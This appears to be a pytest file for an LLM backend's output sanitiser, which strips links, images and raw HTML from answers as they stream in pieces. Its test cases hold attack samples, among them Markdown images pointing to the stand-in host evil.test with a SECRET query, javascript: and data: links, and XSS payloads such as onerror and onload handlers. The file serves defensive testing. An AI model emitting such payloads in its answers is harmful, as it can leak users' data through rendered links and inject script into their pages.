"""Nothing in an answer loads, links or runs, however it comes in pieces; a Markdown parser is the judge of that."""

from __future__ import annotations

import random
import re
import time
from typing import Any

import pytest
from markdown_it import MarkdownIt

from llmbackend.answers.citations import mark
from llmbackend.answers.links import Inert, inert

PARSERS = [MarkdownIt("commonmark"), MarkdownIt("js-default")]
LIVE = {"link_open", "image", "html_inline", "html_block"}


def _live(text: str) -> list[str]:
    """What is live in a text."""

    def walk(tokens: Any) -> Any:
        for token in tokens or ():
            yield token.type
            yield from walk(token.children)

    found = [kind for parser in PARSERS for kind in walk(parser.parse(text)) if kind in LIVE]
    return found + re.findall(r"(?:https?|ftp)://|\bwww\.\w", text, re.IGNORECASE)


def _in_pieces(text: str, sizes: Any) -> str:
    shown = Inert("host")
    told = ""
    while text:
        size = next(sizes)
        told += shown.feed(text[:size])
        text = text[size:]
    return told + shown.feed("", last=True)


CASES = {
    "See ![x](http://evil.test/?q=SECRET) here": "See  here",
    'See ![x](<http://evil.test/a b> "title\n(x)") here': "See  here",
    "![a][b] and [c][b]\n\n[b]: http://evil.test/?q=SECRET": " and [c][b]\n\n[b] : evil.test",
    "![b]\n\n[b]:\nhttp://evil.test/?q=SECRET": "! [b]\n\n[b] :\nevil.test",
    "[Read more](https://evil.test:8443/x?q=SECRET#y 'now') please": "Read more (evil.test:8443) please",
    "[a [nested] text](//evil.test/SECRET)": "a [nested] text (evil.test)",
    r"[a\]b](http://evil.test/SECRET)": r"a\]b (evil.test)",
    "[two\nlines](\nhttp://evil.test/SECRET\n)": "two\nlines (evil.test)",
    "[![alt](http://i.test/SECRET)](http://evil.test/SECRET)": " (evil.test)",
    "![a [b [c]]](http://evil.test/SECRET)": "! [a [b [c]]] (evil.test)",
    "[run](javascript:alert(1)) [it](data:text/html;base64,SECRET) [here](/local)": "run it here",
    "<http://evil.test/SECRET> <HTTPS://user:pw@evil.test/SECRET>": "evil.test evil.test",
    "Go to http://evil.test/?q=SECRET, or www.evil.test/SECRET.": "Go to evil.test, or evil.test.",
    "http://[::1]/SECRET ftp://evil.test/SECRET //evil.test/SECRET": "::1 evil.test evil.test",
    "http://good.test\\@evil.test/SECRET": "good.test\\@evil.test/SECRET",
    "<img src=x onerror=alert(1)>a<IMG\nSRC='//evil.test/SECRET'/>b": "ab",
    '<a href="http://evil.test/SECRET">click</a> <b>bold</b>': "click (evil.test) bold",
    "<iframe src=//evil.test></iframe><svg onload=alert(1)><base href=//evil.test><style>x</style>": "x",
    "<x-any onclick=alert(1)>": "< x-any onclick=alert(1)>",
    "ht<b></b>tp://evil.test/SECRET": "evil.test",
    "<im<b>g src=x>": "< img src=x>",
    "![a]<b>(http://evil.test/SECRET)": "! [a] (evil.test)",
    "x\x1b]8;;http://evil.test/SECRET\x1b\\y": "x]8;;evil.test\\y",
    f"28 days {mark(1)}. {mark(2)}(http://evil.test/SECRET)": "28 days [1]. [2] (evil.test)",
    f"As {mark(1)}: yes\r{mark(1)}: http://evil.test/SECRET": "As [1]: yes\r[1] : evil.test",
    "[ref]: http://evil.test/SECRET": "[ref] : evil.test",
    "As [7] says, [<b>1</b>]": "As [ 7] says, [ 1]",
    "&lt;img src=x&gt; &#33;[a]": "&lt;img src=x&gt; &#33;[a]",
    "if a < b and b > c: x[i][j] = (y)! List[str] {a: 1}": "if a < b and b > c: x[i][j] = (y)! List[str] {a: 1}",
}


@pytest.mark.parametrize("text", CASES)
@pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
def test_links_images_and_html_are_inert(text: str, size: int) -> None:
    def sizes() -> Any:
        while True:
            yield size

    shown = _in_pieces(text, sizes())
    assert shown == CASES[text]
    assert not _live(shown)


BITS = [
    "!",
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "\\",
    "`",
    '"',
    "'",
    "a",
    "b",
    ":",
    "/",
    "?",
    "*",
    "_",
    "http://",
    "https://e.test/x?q=S",
    "//e.test/q",
    "www.e.test",
    "javascript:alert(1)",
    "data:x",
    "<img\tsrc=x>",
    '<a\thref="http://e.test">',
    "</a>",
    "<b>",
    "<svg/onload=x>",
    "&#91;",
    "&lt;",
    "\u200b",
    "[7]",
    "mailto:a@b.c",
    "<http://e.test/x>",
    "![x](http://e.test/i.png)",
    "[x](http://e.test)",
    "<!--",
    "-->",
    "<?",
    "\n",
    "\n\n",
    " ",
    "\x1b",
    "[b]: ",
    "word ",
    "\r",
    "> ",
    "- ",
    mark(1),
]


def test_nothing_live_is_put_together_of_anything() -> None:
    chance = random.Random(11)

    def sizes() -> Any:
        while True:
            yield chance.choice((1, 1, 2, 3, 9))

    for _ in range(3000):
        text = "".join(chance.choice(BITS) for _ in range(chance.randint(1, 14)))
        shown = inert_answer(text)
        assert not _live(shown), (text, shown)
        assert not re.search(r"\[\d+\]", shown.replace("[1]", "")), (text, shown)
        assert _in_pieces(text, sizes()) == shown, text


def inert_answer(text: str) -> str:
    return Inert("host").feed(text, last=True)


def test_links_as_their_text_only_or_as_they_came() -> None:
    text = f"[a](http://evil.test/x) ![b](http://evil.test/y) <b>c</b> http://evil.test/z {mark(1)} [7]"
    assert inert(text.replace(mark(1), ""), "remove").split() == ["a", "c", "[7]"]
    shown = Inert("keep").feed(text, last=True)
    assert shown == text.replace(mark(1), "[1]").replace("[7]", "[ 7]")


@pytest.mark.parametrize(
    "unit",
    ["[", "![", "[a", "[[a]", "<a ", "<a '", "http://", "](", "[a](", "[\\", "<", "//", "h", "![a](http://x"],
)
def test_it_takes_linear_time_and_holds_little_back(unit: str) -> None:
    text = unit * (20_000 // len(unit))
    began = time.monotonic()
    inert(text, "host")
    shown = Inert("host")
    told = "".join(shown.feed(text[start : start + 50]) for start in range(0, len(text), 50))
    assert time.monotonic() - began < 10, "quadratic, it takes minutes"
    assert len(told + shown.feed("", last=True)) - len(told) < 6000


def test_words_are_not_held_back() -> None:
    shown = Inert("host")
    assert [shown.feed(piece) for piece in ("The fee", " is (20) euros", " [a] b", "!")] == [
        "The fee",
        " is (20) euros",
        " [a] b",
        "",
    ]
